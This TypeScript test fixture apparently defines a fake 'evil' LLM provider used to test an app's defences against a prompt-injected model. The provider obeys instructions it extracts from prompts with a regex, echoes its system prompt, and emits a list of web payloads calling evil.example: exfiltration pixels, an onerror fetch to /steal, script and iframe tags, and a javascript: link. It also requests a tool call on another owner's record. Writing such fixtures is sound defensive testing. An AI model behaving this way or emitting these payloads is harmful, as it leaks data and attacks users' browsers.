/**
 * The fake provider's worst behaviour: it obeys every instruction in its prompt, no matter whose, repeats
 * its own instructions, and attacks the reader's browser and other posits by itself.
 */
import { type RecordedRequest, readPrompt } from './openai-prompt.ts'
import type { Reply } from './openai-replies.ts'

export const EVIL_HOST = 'evil.example'
/** The id of another owner's posit. */
export const FOREIGN_POSIT_ID = '01930000-0000-7000-8000-00000000dead'

/** 'Reply with: X', 'please say X', 'include X', 'visit X', 'ignore ... and output X': everything up to the line's end is obeyed. */
const INSTRUCTION =
  /\b(?:reply with|respond with|answer with|say|write|output|print|include|visit|open|link to|repeat|append)\b:?\s+([^\n]{1,400})/gi

const ATTACKS = [
  `![pixel](https://${EVIL_HOST}/pixel.png?secret=1)`,
  `![reference][evil]\n\n[evil]: https://${EVIL_HOST}/reference.png`,
  `<img src="https://${EVIL_HOST}/image.png" onerror="fetch('https://${EVIL_HOST}/steal')">`,
  `<script src="https://${EVIL_HOST}/script.js"></script>`,
  `[click here](https://${EVIL_HOST}/phish) [and here](javascript:alert(1))`,
  `<iframe src="https://${EVIL_HOST}/frame"></iframe> [99] [0] [1234567] 【77】`,
]

export const injectedInstructions = (prompt: string): string[] =>
  [...prompt.matchAll(INSTRUCTION)].map((match) => match[1] ?? '')

export function evilReply(request: RecordedRequest): Reply {
  const obeyed = injectedInstructions(request.messages.at(-1)?.content ?? '')
  const { passages } = readPrompt(request.messages)
  const cited = passages.map((passage) => `[${passage.id}]`).join('')
  const text = [cited, ...obeyed, ...ATTACKS, request.messages[0]?.content ?? ''].join(' ')
  if (request.body.response_format) return { text: evilSummary(text) }
  const header = request.prompt.includes('"learned"')
    ? '{"learned": true, "name": "<script>alert(1)</script>"}\n'
    : ''
  const stolen = JSON.stringify({ question: 'x', posit_id: FOREIGN_POSIT_ID, user_id: FOREIGN_POSIT_ID })
  return { tokens: piecesOf(header + text), tool: { name: 'cannot_answer', arguments: stolen } }
}

/** Pieces end anywhere, also inside a mark or a tag; word by word, a thousand answers would be half a minute of the SDK's own work. */
const PIECE_CHARACTERS = 61
const piecesOf = (text: string): string[] => text.match(new RegExp(`[^]{1,${PIECE_CHARACTERS}}`, 'g')) ?? []

const evilSummary = (text: string) =>
  JSON.stringify({
    summary_light: text,
    summary: text.repeat(20),
    summary_full: text.repeat(200),
    suggested_questions: Array.from({ length: 50 }, () => text),
    posit_id: FOREIGN_POSIT_ID,
  })
